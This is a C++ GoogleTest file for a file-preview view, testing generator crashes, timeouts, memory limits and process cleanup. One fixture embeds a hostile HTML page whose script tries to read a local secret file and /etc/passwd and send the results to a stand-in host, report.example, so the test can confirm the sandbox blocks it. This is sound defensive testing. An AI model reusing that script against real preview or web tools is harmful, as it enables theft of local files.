// SPDX-License-Identifier: GPL-3.0-or-later
#include "PreviewView.h"

#include "FakeDesktop.h"
#include "FakeGenerator.h"
#include "PreviewPictureView.h"
#include "PreviewWebContent.h"
#include "PreviewWebModule.h"
#include "TestEnvironment.h"

#include <QFile>
#include <QFileInfo>
#include <QLabel>
#include <QSignalSpy>
#include <QTest>
#include <QUrlQuery>
#include <gtest/gtest.h>
#include <signal.h>

namespace {

// The file tests preview: "ase" is declared nowhere, so it gets its dynamic identifier.
const QString swatchType = QStringLiteral("dyn.ah62d4rv4ge80c65f");

bool mapped(const char* part)
{
    return !TestEnvironment::mappedFiles({ QString::fromLatin1(part) }).isEmpty();
}

bool webEngineMapped() { return mapped("WebEngineCore"); }

QString labelText(const QWidget& widget, const char* name)
{
    const auto* label = widget.findChild<QLabel*>(QString::fromLatin1(name));
    return label ? label->text() : QStringLiteral("(no label %1)").arg(QString::fromLatin1(name));
}

class PreviewViewTest : public testing::Test {
protected:
    void SetUp() override
    {
        m_file = TestEnvironment::home() + QStringLiteral("/Documents/Colours.ase");
        TestEnvironment::writeFile(m_file, QByteArray(1500, 'x'));
        m_view.resize(400, 300);
        m_view.show();
    }

    void installGenerator(const QByteArray& script)
    {
        FakeGenerator::install(
            TestEnvironment::userLibrary(), QStringLiteral("Fake"), { swatchType }, script);
    }

    // Shows the file and waits until the view is done with it.
    void preview(std::chrono::milliseconds wait = std::chrono::seconds(20))
    {
        QSignalSpy done(&m_view, &PreviewView::previewFinished);
        m_view.setPreviewItem(std::make_shared<FileItem>(m_file));
        if (m_view.state() == PreviewView::State::Working) {
            ASSERT_TRUE(done.wait(int(wait.count()))) << "the preview never finished";
        }
    }

    QString m_file;
    PreviewView m_view;
};

struct FailureCase {
    const char* name;
    const char* script;
    const char* reason;
    bool shortLimit = false;
};

void PrintTo(const FailureCase& c, std::ostream* out) { *out << c.name; }

class GeneratorFailure : public PreviewViewTest,
                         public testing::WithParamInterface<FailureCase> { };

TEST_P(GeneratorFailure, ShowsTheCardWithTheReason)
{
    const bool engineWasLoaded = webEngineMapped();
    installGenerator(GetParam().script);
    // Only the hanging generator meets the limit: the others end long before it.
    if (GetParam().shortLimit)
        m_view.setTimeLimit(std::chrono::milliseconds(500));
    preview();
    EXPECT_EQ(m_view.state(), PreviewView::State::Card);
    EXPECT_EQ(m_view.reason(), QString::fromUtf8(GetParam().reason));
    EXPECT_EQ(labelText(m_view, "reason"), m_view.reason());
    EXPECT_EQ(labelText(m_view, "name"), QStringLiteral("Colours.ase"));
    EXPECT_TRUE(labelText(m_view, "size").startsWith(QStringLiteral("1.5")))
        << labelText(m_view, "size").toStdString();
    if (!engineWasLoaded) {
        EXPECT_FALSE(webEngineMapped()) << "a card must not load the web engine";
    }
}

INSTANTIATE_TEST_SUITE_P(Table, GeneratorFailure,
    testing::Values(FailureCase { "Crash", "kill -SEGV $$",
                        "The preview generator crashed (Segmentation fault)." },
        FailureCase { "Hang", "sleep 1000",
            "The preview generator took longer than 0.5 seconds and was stopped.", true },
        FailureCase { "LastLineOfManyCounts",
            "echo warming up >&2; printf 'not a file of this kind\\n\\n' >&2; exit 3",
            "The preview generator stopped: not a file of this kind" }),
    [](const testing::TestParamInfo<FailureCase>& info) { return std::string(info.param.name); });

TEST_F(PreviewViewTest, WithoutAGeneratorForTheTypeOrTheFileShowsTheCard)
{
    FakeGenerator::install(TestEnvironment::userLibrary(), QStringLiteral("Other"),
        { QStringLiteral("com.adobe.pdf") }, "exit 0");
    preview();
    EXPECT_EQ(m_view.state(), PreviewView::State::Card);
    EXPECT_EQ(m_view.reason(),
        QStringLiteral("No preview generator for this kind of file is installed."));
    EXPECT_TRUE(m_view.outputFolder().isEmpty());

    installGenerator("exit 0");
    QFile::remove(m_file);
    preview();
    EXPECT_EQ(m_view.state(), PreviewView::State::Card);
    EXPECT_EQ(m_view.reason(), QStringLiteral("The file cannot be found."));
}

TEST_F(PreviewViewTest, RunsTheGeneratorWithItsCommandLineUnderTheMemoryLimit)
{
    EXPECT_EQ(m_view.memoryLimit(), qint64(2) << 30);
    installGenerator(
        "printf '%s\\n' \"$@\" > \"$HOME/arguments\"; ulimit -v > \"$HOME/limit\"; exit 3");
    m_view.setMemoryLimit(qint64(64) << 20);
    preview();
    const QStringList arguments = QString::fromUtf8(
        TestEnvironment::readFile(TestEnvironment::home() + QStringLiteral("/arguments")))
                                      .split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    EXPECT_EQ(arguments,
        (QStringList { QStringLiteral("preview"), m_file, QStringLiteral("--uti"), swatchType,
            QStringLiteral("--out"), m_view.outputFolder() }));
    EXPECT_EQ(
        TestEnvironment::readFile(TestEnvironment::home() + QStringLiteral("/limit")).trimmed(),
        "65536");
}

TEST_F(PreviewViewTest, ALonePictureIsShownAndItsOutputFolderGoesWithTheItem)
{
    const bool engineWasLoaded = webEngineMapped();
    // Written by another program: Qt's own writer would load the image plugins in this process.
    installGenerator("gs -q -sDEVICE=png16m -g40x30 -o \"$6/page.png\" -c showpage");
    preview();
    ASSERT_EQ(m_view.state(), PreviewView::State::Picture) << m_view.reason().toStdString();
    const auto* shown = m_view.findChild<PreviewPictureView*>();
    ASSERT_NE(shown, nullptr);
    EXPECT_EQ(shown->image().size(), QSize(40, 30));
    EXPECT_FALSE(mapped("/imageformats/")) << "the picture is read without asking every plugin";
    if (!engineWasLoaded) {
        EXPECT_FALSE(webEngineMapped()) << "a picture must not load the web engine";
    }

    // Another preview, or none, takes the folder away.
    const QString first = m_view.outputFolder();
    ASSERT_TRUE(QFileInfo::exists(first + QStringLiteral("/page.png")));
    preview();
    EXPECT_FALSE(QFileInfo::exists(first));
    const QString second = m_view.outputFolder();
    m_view.setPreviewItem(nullptr);
    EXPECT_EQ(m_view.state(), PreviewView::State::Nothing);
    EXPECT_FALSE(QFileInfo::exists(second));
}

TEST_F(PreviewViewTest, ChangingTheItemWhileTheGeneratorRunsKillsWhatItStarted)
{
    const QString childFile = TestEnvironment::home() + QStringLiteral("/child");
    installGenerator("sleep 1000 & echo $! > \"$HOME/child.part\"; mv \"$HOME/child.part\" "
                     "\"$HOME/child\"; wait");
    QSignalSpy done(&m_view, &PreviewView::previewFinished);
    m_view.setPreviewItem(std::make_shared<FileItem>(m_file));
    EXPECT_EQ(m_view.state(), PreviewView::State::Working);
    ASSERT_TRUE(TestEnvironment::waitUntil([&] { return QFile::exists(childFile); }, 20000));
    const pid_t child = TestEnvironment::readFile(childFile).trimmed().toInt();
    ASSERT_GT(child, 0);
    const QString folder = m_view.outputFolder();
    m_view.setPreviewItem(nullptr);
    EXPECT_FALSE(QFileInfo::exists(folder));
    EXPECT_EQ(m_view.state(), PreviewView::State::Nothing);
    // Gone, or a zombie waiting for whoever inherited it.
    EXPECT_TRUE(TestEnvironment::waitUntil(
        [child] {
            return kill(child, 0) != 0
                || TestEnvironment::readFile(QStringLiteral("/proc/%1/stat").arg(child))
                       .contains(") Z ");
        },
        10000));
    EXPECT_TRUE(done.isEmpty());
}

// A generator that writes a hostile page: whatever its script, refresh, form or frame attempt,
// nothing leaves without a click and nothing outside the page's folder is read.
class HostilePageTest : public PreviewViewTest {
protected:
    void SetUp() override
    {
        PreviewViewTest::SetUp();
        PreviewWebModule::setPath(QStringLiteral(TOLVANE_WEBVIEW_MODULE));
        const QString home = TestEnvironment::home();
        FakeGenerator::writePicture(home + QStringLiteral("/picture.png"));
        FakeGenerator::writePicture(home + QStringLiteral("/secret.png"));
        TestEnvironment::writeFile(home + QStringLiteral("/secret.txt"), "secret");
        QByteArray page = R"(<html><body style="margin:0">
<a style="display:block;height:40px" href="https://clicked.example/">clicked</a>
<a style="display:block;height:40px" href="tolvane://reveal/font?path=%2Fa">font</a>
<form action="https://form.example/" method="post"><input name="q" value="1"></form>
<img id="inside" src="page1.png"><img id="outside" src="file://HOME/secret.png">
<img id="linked" src="page-link.png">
<script>
function loaded(id) { const image = document.getElementById(id); return image.naturalWidth > 0; }
const steps = [
  () => { location.href = "https://script.example/"; },
  () => { window.open("https://popup.example/"); },
  () => { document.forms[0].submit(); },
  () => { location.href = "tolvane://reveal/image?path=%2Fetc%2Fpasswd"; },
  () => { const frame = document.createElement("iframe");
          frame.src = "https://frame.example/"; document.body.appendChild(frame); },
  () => { const refresh = document.createElement("meta"); refresh.httpEquiv = "refresh";
          refresh.content = "0;url=https://refresh.example/"; document.head.appendChild(refresh); },
  () => fetch("file://HOME/secret.txt").then(answer => answer.text(), () => "refused")
          .then(text => { location.href = "https://report.example/?inside=" + loaded("inside")
            + "&outside=" + loaded("outside") + "&linked=" + loaded("linked")
            + "&fetched=" + encodeURIComponent(text); }),
];
let step = 0;
function next() { if (step < steps.length) { steps[step++](); setTimeout(next, 300); } }
window.addEventListener("load", () => setTimeout(next, 50));
</script></body></html>)";
        page.replace("HOME", QFile::encodeName(home));
        TestEnvironment::writeFile(home + QStringLiteral("/page.html"), page);
        installGenerator("cp \"$HOME/page.html\" \"$6/index.html\"; "
                         "cp \"$HOME/picture.png\" \"$6/page1.png\"; "
                         "ln -s \"$HOME/secret.png\" \"$6/page-link.png\"");
    }
};

TEST_F(HostilePageTest, NothingLeavesWithoutAClickAndNothingOutsideIsRead)
{
    FakeOpener opener;
    QSignalSpy commands(&m_view, &PreviewView::urlCommandRequested);
    QSignalSpy refused(&m_view, &PreviewView::navigationRefused);
    preview(std::chrono::seconds(60));
    ASSERT_EQ(m_view.state(), PreviewView::State::WebPage) << m_view.reason().toStdString();

    const auto refusedHosts = [&] {
        QStringList hosts;
        for (const QList<QVariant>& arguments : std::as_const(refused))
            hosts.append(arguments.first().toUrl().host());
        return hosts;
    };
    ASSERT_TRUE(TestEnvironment::waitUntil(
        [&] {
            return refusedHosts().contains("report.example")
                && refusedHosts().contains("refresh.example");
        },
        60000))
        << refusedHosts().join(' ').toStdString();
    // window.open without a click, and a URL command sent by a script, the engine drops itself.
    for (const char* host : { "script.example", "form.example", "frame.example" })
        EXPECT_TRUE(refusedHosts().contains(QLatin1StringView(host))) << host;

    QUrl report;
    for (const QList<QVariant>& arguments : std::as_const(refused)) {
        if (arguments.first().toUrl().host() == u"report.example")
            report = arguments.first().toUrl();
    }
    const QUrlQuery read(report);
    EXPECT_EQ(read.queryItemValue("inside"), "true");
    EXPECT_EQ(read.queryItemValue("outside"), "false");
    EXPECT_EQ(read.queryItemValue("linked"), "false");
    EXPECT_EQ(read.queryItemValue("fetched"), "refused");

    // Real clicks do leave: a web page to the browser, a URL command to the application. They
    // are the only things that left.
    QWidget* target = m_view.webContent()->widget()->focusProxy();
    ASSERT_NE(target, nullptr);
    QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(20, 20));
    ASSERT_TRUE(
        TestEnvironment::waitUntil([&] { return !opener.recordedArguments().isEmpty(); }, 10000));
    EXPECT_EQ(opener.recordedArguments(), QStringList { "https://clicked.example/" });
    QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(20, 60));
    ASSERT_TRUE(commands.wait(10000));
    EXPECT_EQ(commands.size(), 1);
    EXPECT_EQ(commands.first().first().toUrl(), QUrl("tolvane://reveal/font?path=%2Fa"));
    EXPECT_EQ(m_view.state(), PreviewView::State::WebPage);
}

// A page that takes 1.5 GB of memory for its script: its process stops at the limit, and the
// card says why.
TEST_F(HostilePageTest, APageBeyondItsMemoryLimitShowsTheCard)
{
    TestEnvironment::writeFile(TestEnvironment::home() + QStringLiteral("/page.html"), R"(<html>
<body><script>
const kept = [];
function more() {
  if (kept.length == 24) { location.href = "https://survived.example/"; return; }
  kept.push(new Array(8 << 20).fill(kept.length + 0.5));
  setTimeout(more, 0);
}
window.addEventListener("load", more);
</script></body></html>)");
    m_view.setPageMemoryLimit(qint64(512) << 20);
    QSignalSpy refused(&m_view, &PreviewView::navigationRefused);
    preview(std::chrono::seconds(60));
    ASSERT_TRUE(TestEnvironment::waitUntil(
        [&] { return m_view.state() == PreviewView::State::Card || !refused.isEmpty(); }, 120000));
    EXPECT_TRUE(refused.isEmpty()) << "the page got all of its 1.5 GB";
    EXPECT_EQ(m_view.state(), PreviewView::State::Card);
    EXPECT_TRUE(m_view.reason().contains(QStringLiteral("512 MB")))
        << m_view.reason().toStdString();
}

}
